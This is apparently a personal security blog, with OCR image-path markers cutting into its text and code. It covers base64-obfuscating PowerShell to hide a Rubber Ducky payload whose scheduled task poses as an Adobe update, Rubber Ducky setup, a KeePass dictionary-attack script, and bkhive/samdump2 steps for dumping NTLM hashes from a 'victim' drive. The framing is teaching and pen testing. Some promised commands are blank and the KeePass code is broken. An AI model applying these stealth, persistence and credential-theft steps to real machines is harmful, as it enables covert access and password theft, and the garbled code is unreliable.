Obfuscating PowerShell Commands

I recently wrote a Ducky Script that creates a scheduled task upon plugging a Rubber Ducky into an unlocked PC. While the script is successful, I find it gives away too many clues as to what the script is doing.

PowerShell commands can be obfuscated using base64. These commands can be submitted to PowerShell using the the EncodedCommands parameter. While designed to be used to submit commands to PowerShell that require complex quotation marks or curly braces, it can also be used in an attempt to hide what commands a script is running.The PowerShell commands my Ducky Script runs are as follows:

$action = New-ScheduledTaskAction -Execute 'wlrmdr.exe' -Argument " -s 60000 -f 1 -t You've Been Pwned! -m Remember that USB you plugged in? Pepperidge Farm Remembers. -a o"

$trigger = New-ScheduledTaskTrigger -Daily -At 3:14pm

Register-ScheduledTask -Action $action -Trigger $trigger -TaskName "Adobe Acrobat Update Tusk" -Description "This task doesn't keep your Adobe Reader and Acrobat applications up to date with the latest enhancements and security fixes"

This is a benign script that will remind the victim daily that they plugged in an unknown USB stick. I also had the scheduled task kind of hideitself as the Adobe Reader Update Task in an attempt to avoid being discovered later on.

Before getting started, PowerShell will need to know that it is to run all these commands together. This can be done using a semicolin (;). Simply put a semicolon between each command like so:

$action = New-ScheduledTaskAction -Execute 'wlrmdr.exe' -Argument " -s 60000 -f 1 -t You've Been Pwned! -m Remember that USB you plugged in? Pepperidge Farm Remembers. -a o";$trigger = New-ScheduledTaskTrigger -Daily -At 3:14pm;Register-ScheduledTask -Action $action -Trigger $trigger -TaskName "Adobe Acrobat Update Tusk" -Description "This task doesn't keep your Adobe Reader and Acrobat applications up to date with the latest enhancements and security fixes"

To convert the commands to base64, add the commands to a variable with a name of your choice. It my case I’ve gone with $EncodeText. It will also be important to use the backtick on the variables and some of the quotations.$EncodeText = "`$action = New-ScheduledTaskAction -Execute'wlrmdr.exe' -Argument `" -s 60000 -f 1 -t You've Been Pwned! -m Remember that USB you plugged in? Pepperidge Farm Remembers. -a o`";`$trigger = New-ScheduledTaskTrigger -Daily -At 3:14pm;Register-ScheduledTask -Action`$action -Trigger `$trigger -TaskName `"Adobe Acrobat Update Tusk`" -Description `"This task doesn't keep your Adobe Reader and Acrobat applications up to date with the latest enhancements and security fixes`""

The commands can now be encoded in base64 by running the following command:


The base64 text will be displayed on the screen.


This can now be fed into PowerShell using the EncodedCommand parameter. You can pipe the command to Out-Null to have the command run without any output:


You can now run Obfuscated PowerShell Commands the way your inner PowerShell Ninja intended.

Check out the Ducky Script on GitHub!

USB Rubber Ducky

I purchased a USB Rubber Ducky from Hak5 a few years back and it has been sitting in the office collecting dust ever since. A USB Rubber Ducky is a device that looks like a USB Flash Drive but thinks its a keyboard. Whenplugged into a computer, a USB Rubber Ducky can start typing commands. Because it is able to type commands a lot quicker than you or I, the USB Rubber Ducky can bea handy tool for automating a task, or for quickly installing a remote backdoor during a physical penetration test.

Let’s get some remote shells!!

Instead of jumping right into loading a remote shell (sorry for the misleading heading), I will start small; how to write a basic “Ducky Script” and how to encode it and load it onto the USB Rubber Ducky.

For this task, I am working on Ubuntu and creating a USB Rubber Ducky to “attack” a Windows PC.

First things first, Lets start by setting up a working directory. On Ubuntu we can do that with the following commands:

mkdir ~/RubberDucky/
mkdir ~/RubberDucky/scripts

Now change directory to RubberDucky with the following command:

cd ~/RubberDucky

Let move onto downloading the require tools.


Hak5 provide the tools required to encode the Ducky Script text files into a bin file that can be used by the Rubber Ducky. Before we can run Duckencoder we will need to install the java runtime environment. This can be done with the following command:

sudo apt install default-jre

Once this has installed, it is time to download duckencoder. We have already changed into our RubberDucky directory, so we can go ahead and download the tool. Do that with the following command:

wget https://github.com/hak5darren/USB-Rubber-Ducky/raw/master/duckencoder.jar

Creating basic Ducky Script

My basic script is inspired by the Matrix. It’s not very elaborate, it just opens Notepad on Windows and displays a message to the users.

To get started lets create a blank text file and open it with our favourite text editor.

touch ~/RubberDucky/scripts/HelloWorld.txt && vi ~/RubberDucky/scripts/HelloWorld.txt

Now enter the text below. If you are not familiar with Vim, you will need to press i to enter the insert mode before you can enter the text.

REM Ducky Payload inspired by The Matrix
STRING notepad.exeSTRING Wake up User.
STRING The Matrix has you.
STRING Follow the Rubber Ducky.

To save the file and exit Vim, press escape to go back to command mode and the type :wq and press enter.

Other Scripts are available from Hak5.

Encoding the Ducky Script

Before we can load the script onto the USB Rubber Ducky, we will need to encode the file with the Duckencoder tool we downloaded earlier. This is a simple process and can be done using the command below:

java -jar duckencoder.jar -i ~/RubberDucky/scripts/HelloWorld.txt -o inject.bin

Essentially we are using java to runduckencoder, taking the text file as an input (-i) and setting the output (-o) as the bin file.

Once this completes you will see the inject.bin file in the ~/RubberDucky directory.This can be transferred over to a Micro SD card and inserted into your RubberDucky. This can be now plugged into a Windows PC for a little bit of non-malicious fun.

Python 3 KeePass Dictionary Attack

Github: https://github.com/0x6A6F7368/KeePassDictionaryAttack

A few years back I created a python script for a class I was teaching on password security. It is a basic script to run a dictionary attack against a KeePass database. Being that Python 2.7 EOL date is quickly approaching, I thought I might change my script to suit Python 3 – and do a quick blog post on how to run the new script.

First of all you will need to download and install the libkeepass module. This can be done using pip. If you haven’t installed pip3 you will need to do this first.

sudo apt-get install python3-pip
pip3 install libkeepass

Create a directory to store the script, and then change into the newly created directory.

cd ~ && mkdir keepassdictionaryattack
cd keepassdictionaryattack

You can supply your own password list as password.txt or download one of the many available online. I am using the 500 worst passwords list I found on Daniel Miessler’s GitHub.

Download the passwords and rename the file to passwords.txt

curl -O https://raw.githubusercontent.com/danielmiessler/SecLists/master/Passwords/Common-Credentials/500-worst-passwords.txt

mv 500-worst-passwords.txt passwords.txt

Now, download the KeePass Dictionary Attack script.

curl -O

Copy a KeePass database into ~/keepassdictionaryattack and then run the script.

python3 KeePassAttack.pyIf the KeePass database is using a weak password, you may gain access to the database and all the goodies inside.

Diceware Passphrase Generator


Python 3 Version can be found on GitHub.

Diceware Passphrase Generator – Python 2.7

It has been a while since I have done anything with Python so as a quick easy ‘get back into it’ I though I would create a Diceware Passphrase Generator. This is not a truly secure implementation as I am only using the python random function, as this quote from the Python Document Library explains:

Warning: The pseudo-random generators of this module should not be used for security purposes. Use os.urandom() or SystemRandom if you require a cryptographically secure pseudo-random number generator.

diceware passphrase

I will be modifying the script to use the os.urandom() function and will post it here when I do.

The wordlist I used can be found here; more information about Diceware Passphrases can be read here.And here is the code:

import random

def dicenumber():
    diceout = ""
    for i in range(5): # 5 dice rolls
        diceout += `random.randint(1,6)` # add result of dice roll to variable
    return diceout

def diceware(x):
    wordlist = open('diceware.wordlist.asc', 'r')
    for line in wordlist:
        if line.startswith(x):
            return linefor i in range(4): print diceware(dicenumber()), # increase number for longer passphrases

Dumping NTLM Hashes

Since discovering Hashcat, password cracking has become somewhat of a hobby of mine – even enough to buy the first video card in about 15 years (not much of a modern gamer)

Although the card is nothing flash – GT750 – it does the job. We all start small.

Having physical access to a machine most likely means you will not need to crack a password to gain access to data on the device (bootable Linux USB) but sometimes its all about knowing the password itself. The password could be the keys to the kingdom.

And I am curious about what people pick for passwords. I am kind of pasionate about password security.I do get clients on a daily basis who have forgotten passwords for their home Windows machines, and while I can easily backup their data, I like to also tell them that their password was Petsname1 (or some other “creative” conconcton) and that its time to start using more secure passwords. Because reasons.

Grabbing a NTLM hash is as easy as Backbox, Bkhive, Samdump2…

The reason I use Backbox is I find it boots on everything I need it to boot on. And the reason I used bkhive to dump the system key rather than just using samdump2 to dump key and hash is that is was not dumping properly and I was getting incorrect keys, and incorrect/uncrackable hashes. Im just showing the way that works for me.

Getting the Hash

  1. Boot up from Bootable BackBox USB
  2. Open Terminal
  3. Mount victim hard drive
  4. Change directory to directorywheredrivewasmounted/Windows/System32/config
  5. type in bkhive SYSTEM key.txt – now from a forensic point of view this is going to make a file right there in the config folder that someone could possibly find later on – even if you delete
  6. type in samdump2 SAM key.txt > hashes.txt – again from a forensics point of view this file is being written to the local drive and could be discovered later on

You now have a file, hashes.txt, that contains the hashed password of each user from that machine.

KeePass Dictionary Attack


Python 3 version can be found onGitHub.

Updated page can be viewed here.

KeePass Dictionary Attack – Python 2.7

import libkeepass

filename = 'sample.kdbx' # Enter name of keepass database
f = open('passwords.txt') # Enter nameof password list

for line in f:
    line = line.strip()
        with libkeepass.open(filename, password=line) as kdb:
            print '\n \n Password has been found. Your password is ' + `line`
    except IOError:
        print 'Trying password:  ' + line

I wrote this script for a class I was teaching on using Password Managers. Even though we were implementing a Password Manager, some students still insisted on using simple passwords, thus leaving their password manager vulnerable to a simple dictionary attack. It is by no means an elaborate script, but was enough to outline to my students why we should use strong passwords to protect sensitive data.Keepass Dictionary AttackThe KeePass Dictionary Attack script displaying the password found for a KeePass database.

To use this script you will need access to a wordlist. There are many wordlists around and a quick Google search for ‘wordlist’ will link you to several. A list of the top 500 worst passwords can be found here.

You will also need to download and install the libkeepass module. To install this module you may also need to download Microsoft Visual C++ compiler for Python 2.7.

